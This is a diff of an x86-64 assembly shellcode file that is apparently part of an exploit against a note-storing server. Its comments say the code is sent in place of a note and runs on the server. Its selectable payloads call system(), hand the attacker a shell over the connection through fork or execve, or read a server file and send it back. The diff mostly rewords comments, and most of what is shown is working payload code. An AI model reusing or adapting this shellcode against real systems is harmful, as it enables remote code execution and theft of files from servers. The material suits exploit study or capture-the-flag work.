@@ -1,13 +1,14 @@
-# What is sent to the server in place of a note: code, which runs where the note was stored. One of these, by -D:
+# Code that the attacker sends in place of a note, and that runs where the server stores the note.
+# One of these is selected by -D:
 #
-#   SYSTEM=ADDRESS  calls the C library's system(), at this address of the server
-#   FORK            a child puts the connection in the place of its stdin, stdout and stderr, and executes a shell
-#   EXECVE          executes a shell in the server's place
-#   READ            sends a file, by calls in the order in which the server sends files
+#   SYSTEM=ADDRESS  calls the C library's system(), at this address in the server
+#   FORK            a child makes the connection its stdin, stdout and stderr, and executes a shell
+#   EXECVE          executes a shell in place of the server
+#   READ            sends a file, by the same calls and in the same order as the server
 #
-# FOLDER is the server's, CLIENT its connection.
+# FOLDER is the server's folder, CLIENT the descriptor of its connection.
     .text
-    # The code is below the stack pointer, where calls would write.
+    # The code is below the stack pointer, where calls would overwrite it.
     sub $16384, %rsp
     and $-16, %rsp
 #if defined(SYSTEM)
@@ -16,7 +17,7 @@
     call *%rax
     jmp end
 #elif defined(READ)
-    # What comes after a note is another request: one byte of it will do.
+    # The server would now receive the next request: one byte of it suffices.
     call receive
     mov $257, %eax              # openat
     mov $-100, %edi
@@ -29,7 +30,7 @@
     lea end(%rip), %rsi
     mov $-1, %edx
     syscall
-    # The head of an answer, and the file.
+    # The head of a reply, and the file.
     mov $4, %eax
     call answer
     mov %ebx, %edi
@@ -40,7 +41,7 @@
     mov $3, %eax                # close
     mov %ebx, %edi
     syscall
-    # And so on: the client goes, and with it the worker.
+    # Receives until the client disconnects; then the worker ends.
     call receive
     jmp end
 receive:
